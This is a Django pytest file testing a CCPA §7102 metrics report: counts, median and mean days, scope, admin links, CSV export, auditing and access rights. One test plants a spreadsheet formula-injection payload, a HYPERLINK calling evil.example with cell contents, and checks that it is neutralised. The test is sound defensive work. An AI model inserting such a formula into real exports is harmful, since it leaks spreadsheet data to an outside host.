"""The CCPA §7102 metrics report on a known data set: exact figures (received, complied
with, denied by reason, median and mean days), the scope, the year's edges, the links to
the requests behind each figure, the CSV, and a query count that does not grow with the
number of requests."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from privacy.models import AuditEvent
from privacy.tests.factories import UserFactory
from requests_app.models import RequestType, Status
from requests_app.selectors.ccpa_metrics import ccpa_metrics
from requests_app.tests.factories import PrivacyRequestFactory

pytestmark = pytest.mark.django_db

T = RequestType


def _at(day: str, hour: int = 12) -> dt.datetime:
    return timezone.make_aware(dt.datetime.fromisoformat(day).replace(hour=hour))


def _request(kind, status, received, closed=None, *, reason="", rule="ccpa", **kwargs):
    return PrivacyRequestFactory(
        request_type=kind,
        status=status,
        rule_code=rule,
        received_at=_at(received) if isinstance(received, str) else received,
        closed_at=_at(closed) if closed else None,
        denial_reason=reason,
        **kwargs,
    )


def known_data_set() -> dict[str, list]:
    """2025's requests (and a few that must not count), by the figure they belong to."""
    made = {
        "know_complied": [
            _request(T.ACCESS, Status.COMPLETED, "2025-01-10", "2025-01-20"),  # 10 days
            _request(T.KNOW, Status.COMPLETED, "2025-03-01", "2025-03-31"),  # 30 days
        ],
        "know_unverified": [
            _request(T.PORTABILITY, Status.DENIED, "2025-06-01", "2025-06-05", reason="unverified")
        ],  # 4 days
        "know_expired": [_request(T.ACCESS, Status.EXPIRED, "2025-07-01", "2025-07-15")],
        "know_other": [_request(T.ACCESS, Status.IN_PROGRESS, _at("2025-12-31", 23))],
        "delete_complied": [_request(T.DELETION, Status.COMPLETED, "2025-02-01", "2025-02-15")],
        "delete_legal": [
            _request(
                T.DELETION, Status.DENIED, "2025-02-02", "2025-02-04", reason="legal_obligation"
            )
        ],
        "delete_other": [_request(T.DELETION, Status.WITHDRAWN, "2025-04-01", "2025-04-02")],
        "opt_out_complied": [
            _request(
                T.OPT_OUT_SALE, Status.COMPLETED, "2025-05-05", "2025-05-05", rule="ccpa_opt_out"
            ),
            _request(
                T.OPT_OUT_SALE, Status.COMPLETED, "2025-05-06", "2025-05-08", rule="ccpa_opt_out"
            ),
        ],
        "limit_excessive": [
            _request(
                T.LIMIT_SENSITIVE,
                Status.DENIED,
                "2025-09-09",
                "2025-09-10",
                reason="excessive",
                rule="ccpa_opt_out",
            )
        ],
        # Not counted for California 2025:
        "virginia": [
            _request(
                T.OPT_OUT_SALE,
                Status.COMPLETED,
                "2025-05-07",
                "2025-05-17",
                rule="vcdpa",
                state="VA",
            )
        ],
        "elsewhere": [
            _request(T.DELETION, Status.COMPLETED, _at("2024-12-31", 23), "2025-01-02"),
            _request(T.ACCESS, Status.COMPLETED, _at("2026-01-01", 0), "2026-01-05"),
            _request(T.APPEAL, Status.COMPLETED, "2025-03-03", "2025-03-04"),
            _request(T.RESTRICTION, Status.COMPLETED, "2025-03-03", "2025-03-04"),
        ],
    }
    return {key: [r.pk for r in rows] for key, rows in made.items()}


EXPECTED_2025_CALIFORNIA = {
    # key: received, complied, denied, by reason, other, responded, median, mean
    "know": (5, 2, 2, {"unverified": 1, "expired": 1}, 1, 3, 10.0, 14.7),
    "delete": (3, 1, 1, {"legal_obligation": 1}, 1, 2, 8.0, 8.0),
    "correct": (0, 0, 0, {}, 0, 0, None, None),
    "opt_out": (2, 2, 0, {}, 0, 2, 1.0, 1.0),
    "limit": (1, 0, 1, {"excessive": 1}, 0, 1, 1.0, 1.0),
}


def _figures(rows):
    return {
        r.key: (
            r.received,
            r.complied,
            r.denied,
            r.denied_by_reason,
            r.other,
            r.responded,
            r.median_days,
            r.mean_days,
        )
        for r in rows
    }


def test_the_report_on_a_known_data_set_gives_exact_figures():
    known_data_set()
    assert _figures(ccpa_metrics(year=2025)) == EXPECTED_2025_CALIFORNIA


def test_all_jurisdictions_add_the_virginian_opt_out():
    known_data_set()
    figures = _figures(ccpa_metrics(year=2025, scope="all"))
    # Opt-outs: 0, 2 and 10 days.
    assert figures["opt_out"] == (3, 3, 0, {}, 0, 3, 2.0, 4.0)
    assert figures["know"] == EXPECTED_2025_CALIFORNIA["know"]


def test_an_empty_year_reports_zeros():
    known_data_set()
    assert all(r.received == 0 and r.median_days is None for r in ccpa_metrics(year=2023))


def test_the_query_count_does_not_grow_with_the_requests():
    known_data_set()
    with CaptureQueriesContext(connection) as small:
        ccpa_metrics(year=2025)
    for _ in range(3):
        known_data_set()
    with CaptureQueriesContext(connection) as big:
        rows = ccpa_metrics(year=2025)
    assert rows[0].received == 20
    assert len(big.captured_queries) == len(small.captured_queries)
    assert len(big.captured_queries) <= 12


# --- the admin page, its links and the CSV -----------------------------------------------------


@pytest.fixture
def auditor_client(client):
    client.force_login(UserFactory(role="Auditor"))
    return client


def test_every_figure_links_to_the_requests_behind_it(auditor_client):
    made = known_data_set()
    page = auditor_client.get(
        reverse("admin:requests_app_privacyrequest_ccpa_metrics"), {"year": 2025}
    )
    assert page.status_code == 200
    know = next(item for item in page.context["table"] if item["row"].key == "know")
    changelist = reverse("admin:requests_app_privacyrequest_changelist")

    def behind(url: str) -> set[int]:
        path = url.partition("?")[0]
        assert path == changelist
        response = auditor_client.get(url)
        assert response.status_code == 200
        return {obj.pk for obj in response.context["cl"].result_list}

    assert behind(know["links"]["received"]) == set(
        made["know_complied"] + made["know_unverified"] + made["know_expired"] + made["know_other"]
    )
    assert behind(know["links"]["complied"]) == set(made["know_complied"])
    assert behind(know["links"]["denied"]) == set(made["know_unverified"] + made["know_expired"])
    assert behind(know["links"]["other"]) == set(made["know_other"])
    reasons = {reason: url for reason, _ground, _count, url in know["reasons"]}
    assert behind(reasons["expired"]) == set(made["know_expired"])
    assert behind(reasons["unverified"]) == set(made["know_unverified"])
    # A filter value that is not a figure changes nothing and breaks nothing.
    assert auditor_client.get(changelist, {"ccpa7102": "nonsense"}).status_code == 200


def test_the_csv_has_the_same_figures_and_is_audited(auditor_client):
    known_data_set()
    response = auditor_client.get(
        reverse("admin:requests_app_privacyrequest_ccpa_metrics"),
        {"year": 2025, "format": "csv"},
    )
    assert response["Content-Disposition"] == 'attachment; filename="ccpa-7102-2025-california.csv"'
    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
    assert rows[0][:6] == [
        "year",
        "scope",
        "request kind",
        "received",
        "complied with in whole or in part",
        "denied",
    ]
    know = [r for r in rows[1:] if r[2] == "Requests to know"]
    assert know[0] == ["2025", "california", "Requests to know", "5", "2", "2", "", "", "", "1", "3", "10.0", "14.7"]  # fmt: skip
    assert [r[6:9] for r in know[1:]] == [
        ["expired", "not verifiable", "1"],
        ["unverified", "not verifiable", "1"],
    ]
    assert AuditEvent.objects.filter(
        action="privacy_request.bulk_read", summary__via="ccpa_metrics_csv"
    ).exists()


def test_csv_cells_never_run_as_formulas(monkeypatch, auditor_client):
    """A kind's label that starts like a formula (labels are data, and could be edited)
    reaches the CSV as text: the report uses privacy.spreadsheets.neutralise_formula."""
    from requests_app.selectors import ccpa_metrics as selectors

    label = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    monkeypatch.setitem(
        selectors.METRIC_GROUPS, "know", (label, selectors.METRIC_GROUPS["know"][1])
    )
    known_data_set()
    response = auditor_client.get(
        reverse("admin:requests_app_privacyrequest_ccpa_metrics"),
        {"year": 2025, "format": "csv"},
    )
    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
    assert rows[1][2] == "'" + label


def test_support_agents_may_read_the_report_but_anonymous_users_may_not(client):
    url = reverse("admin:requests_app_privacyrequest_ccpa_metrics")
    assert client.get(url).status_code == 302  # to the login page
    client.force_login(UserFactory(role="Support agent"))
    assert client.get(url).status_code == 200
